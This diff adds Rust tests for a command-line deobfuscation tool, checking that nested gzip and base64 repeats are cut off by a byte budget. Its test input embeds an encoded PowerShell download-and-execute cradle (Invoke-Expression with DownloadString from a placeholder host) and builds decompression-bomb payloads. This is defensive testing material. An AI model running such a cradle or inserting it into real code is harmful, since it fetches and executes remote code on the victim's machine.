@@ -885,3 +885,60 @@ fn options_read_with_msticpy_spellings() {
         assert_eq!(read::<UnpackOptions>("unpack", &v).unwrap_err().to_string(), want, "{v}");
     }
 }
+
+/// `n` copies of `run`, space-separated, gzipped and base64-encoded: one short run that decodes to `n` repeats.
+fn repeats_in_gzip(run: &str, n: usize) -> String {
+    let text = vec![run; n].join(" ");
+    b64(&gzip_of("r.txt", text.as_bytes()))
+}
+
+#[test]
+fn repeated_runs_count_against_the_byte_budget() {
+    // Issue #14: each copy of a repeated run re-appends its cached decode. Two levels of 400 repeats of gzip-in-gzip
+    // is 160,000 copies of the innermost decode (about 13 MB of output) from a command line of a few hundred bytes.
+    let inner = b64(b"Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x/a')");
+    let middle = repeats_in_gzip(&inner, 400);
+    let outer = repeats_in_gzip(&middle, 400);
+    let text = format!("powershell -enc {outer}");
+    assert!(text.len() < 2000, "the command line is {} bytes", text.len());
+    let budget = 1 << 20;
+    let u = unpack(
+        &text,
+        &UnpackOptions {
+            max_total_bytes: budget,
+            ..opts()
+        },
+    )
+    .unwrap();
+    assert!(u.truncated);
+    assert!(
+        u.text.len() <= budget + text.len(),
+        "{} bytes produced under a {budget}-byte budget",
+        u.text.len()
+    );
+    assert!(
+        u.notes.iter().any(|n| n.contains("limit max_total_bytes")),
+        "{:?}",
+        u.notes
+    );
+    // What fitted is still decoded: the first copies are there, the rest left encoded.
+    assert!(u.text.contains("DownloadString"));
+    assert!(u.text.contains(&middle));
+}
+
+#[test]
+fn nested_repeats_stop_at_the_default_budget() {
+    let _heavy = HEAVY.lock().unwrap_or_else(|e| e.into_inner());
+    // 1000 × 1000 × 100 copies (about 10 GB) if repeats were free; the 64 MiB budget stops it.
+    let inner = b64(b"Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x/a')");
+    let l2 = repeats_in_gzip(&inner, 1000);
+    let l3 = repeats_in_gzip(&l2, 1000);
+    let l4 = repeats_in_gzip(&l3, 100);
+    let text = format!("powershell -enc {l4}");
+    assert!(text.len() < 5000, "the command line is {} bytes", text.len());
+    let t = Instant::now();
+    let u = unpack(&text, &opts()).unwrap();
+    assert!(u.truncated);
+    assert!(u.text.len() <= (64 << 20) + text.len(), "{} bytes", u.text.len());
+    assert!(t.elapsed() < Duration::from_secs(60), "took {:?}", t.elapsed());
+}
